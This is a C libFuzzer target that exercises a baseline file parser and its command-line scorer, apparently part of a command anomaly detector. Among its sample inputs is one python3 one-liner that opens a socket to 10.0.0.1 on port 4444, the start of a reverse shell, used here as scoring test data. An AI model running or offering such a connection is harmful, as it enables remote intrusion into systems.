/* fuzz_baseline.c: libFuzzer target for the baseline file reader. A file that parses is saved
 * again (and must parse again to the same text) and scores a few command lines, so odd trees,
 * vocabularies and group tables exercise scoring too. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include "baseline.h"

static const char *const lines[] = {
	"python3 -c 'import socket,os;s=socket.socket();s.connect((\"10.0.0.1\",4444))'",
	"perl -e 'print 1'", "bash -c 'ls -la'", "awk '{print $1}' f", "x", "",
};

static char *saved(const struct baseline *b, size_t *len)
{
	char *buf = NULL;
	FILE *f = open_memstream(&buf, len);

	if (!f)
		return NULL;
	baseline_save(b, f);
	fclose(f);
	return buf;
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	char err[512];
	struct baseline *b = baseline_parse((const char *)data, size, "fuzz", err, sizeof(err)), *b2;
	size_t l1, l2;
	char *t1, *t2;

	if (!b)
		return 0;
	for (size_t i = 0; i < sizeof(lines) / sizeof(lines[0]); i++) {
		struct baseline_result r;
		struct baseline_explain ex;
		struct bl_cmd c;

		bl_cmd_from_line(&c, lines[i], strlen(lines[i]));
		baseline_score(b, &c, &r, &ex);
	}
	t1 = saved(b, &l1);
	b2 = t1 ? baseline_parse(t1, l1, "saved", err, sizeof(err)) : NULL;
	if (t1 && !b2)
		abort();   /* what we write, we read */
	t2 = b2 ? saved(b2, &l2) : NULL;
	if (t2 && (l1 != l2 || memcmp(t1, t2, l1)))
		abort();
	free(t1), free(t2);
	baseline_free(b2);
	baseline_free(b);
	return 0;
}
